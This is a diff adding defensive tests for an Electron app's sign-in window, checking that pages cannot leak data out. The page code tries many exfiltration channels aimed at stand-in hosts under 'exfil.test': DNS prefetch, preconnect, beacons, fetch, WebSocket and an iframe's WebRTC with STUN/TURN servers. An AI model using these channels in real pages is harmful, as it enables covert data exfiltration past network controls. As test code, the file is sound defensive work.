@@ -1,0 +1,121 @@
+/** Ways out of the window that are no requests: names that Chromium resolves, and WebRTC. */
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
+import { readFile } from 'node:fs/promises';
+import { createServer, type AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { expect, test } from './fixtures.ts';
+import { unpackaged } from './program.ts';
+
+interface NetLog {
+  readonly constants: { readonly logEventTypes: Readonly<Record<string, number>> };
+  readonly events: readonly { readonly type: number; readonly params?: unknown }[];
+}
+
+/** Which names below `exfil.test` were resolved, or asked a server for, as Chromium's own log says once the app has ended. */
+async function resolvedNames(file: string): Promise<readonly string[]> {
+  const { constants, events } = JSON.parse(await readFile(file, 'utf8')) as NetLog;
+  const types = new Set(
+    Object.entries(constants.logEventTypes).flatMap(([name, type]) =>
+      /^(DNS|HOST_RESOLVER)/.test(name) ? [type] : [],
+    ),
+  );
+  // The log is one that such events would stand in: AuthKit's own address is resolved as well.
+  expect(events.some(({ type }) => types.has(type))).toBe(true);
+  const text = JSON.stringify(events.filter(({ type }) => types.has(type)));
+  return [...new Set([...text.matchAll(/[\w-]+\.exfil\.test/g)].map(([name]) => name))];
+}
+
+test('a name that the page writes down is asked of nobody', async ({ app, person, folder }) => {
+  const file = join(folder, 'net-log.json');
+  await app.launch({ args: [`--log-net-log=${file}`] });
+  await app.window.evaluate(() => {
+    const allow = document.createElement('meta');
+    allow.httpEquiv = 'x-dns-prefetch-control';
+    allow.content = 'on';
+    document.head.append(allow);
+    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender']) {
+      const link = document.createElement('link');
+      link.rel = rel;
+      link.href = `https://${rel}.exfil.test/`;
+      document.head.append(link);
+    }
+    const anchor = document.createElement('a');
+    anchor.href = 'https://anchor.exfil.test/';
+    anchor.textContent = 'away';
+    document.body.append(anchor);
+    new Image().src = 'https://image.exfil.test/';
+    navigator.sendBeacon('https://beacon.exfil.test/');
+    fetch('https://fetch.exfil.test/', { mode: 'no-cors' }).catch(() => {});
+    new WebSocket('wss://socket.exfil.test/').addEventListener('error', () => {});
+  });
+  // Main's own calls come after them, through the same resolver.
+  await app.button('Sign in').click();
+  await person.followToBrowser();
+  await app.button('Cancel').click();
+  await app.quit();
+  expect(await resolvedNames(file)).toEqual([]);
+});
+
+test('a page has no WebRTC', async ({ app }) => {
+  await app.launch();
+  const found = await app.window.evaluate(() =>
+    ['RTCPeerConnection', 'webkitRTCPeerConnection'].filter((name) => name in window),
+  );
+  expect(found).toEqual([]);
+});
+
+/** Says when a page has been loaded. */
+const watchPages = `require('electron').app.on('web-contents-created', (_event, contents) => {
+  contents.on('did-finish-load', () => console.error('page-loaded'));
+});`;
+
+test(
+  'a frame, whose WebRTC is its own, ends the page before that is of any use',
+  unpackaged,
+  async ({ app, folder }) => {
+    const file = join(folder, 'net-log.json');
+    let contacts = 0;
+    const stun = createSocket('udp4', () => (contacts += 1)).bind(0, '127.0.0.1');
+    const turn = createServer((socket) => {
+      contacts += 1;
+      socket.destroy();
+    }).listen(0, '127.0.0.1');
+    await Promise.all([once(stun, 'listening'), once(turn, 'listening')]);
+    await app.launch({ args: [`--log-net-log=${file}`], module: watchPages });
+    const loads = () => app.log().match(/page-loaded/g)?.length ?? 0;
+    const before = loads();
+    const crashed = app.window.waitForEvent('crash');
+    const ports = { stun: stun.address().port, turn: (turn.address() as AddressInfo).port };
+    app.window
+      .evaluate(({ stun, turn }) => {
+        const frame = document.createElement('iframe');
+        document.body.append(frame);
+        const own = (frame.contentWindow as (Window & typeof globalThis) | null)?.RTCPeerConnection;
+        if (own === undefined) return;
+        const credentials = { username: 'a', credential: 'b' };
+        const connection = new own({
+          iceCandidatePoolSize: 4,
+          iceServers: [
+            { urls: `stun:127.0.0.1:${stun}` },
+            { urls: 'stun:stun.exfil.test' },
+            { urls: `turn:127.0.0.1:${turn}?transport=tcp`, ...credentials },
+            { urls: 'turn:turn.exfil.test?transport=tcp', ...credentials },
+            { urls: 'turns:turns.exfil.test', ...credentials },
+          ],
+        });
+        connection.createDataChannel('leak');
+        void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
+      }, ports)
+      // There is nobody left to answer.
+      .catch(() => {});
+    await crashed;
+    await app.reattachAfter(() => expect.poll(loads).toBe(before + 1));
+    await expect(app.button('Sign in')).toBeVisible();
+    await app.quit();
+    stun.close();
+    turn.close();
+    expect(await resolvedNames(file)).toEqual([]);
+    expect(contacts).toBe(0);
+  },
+);
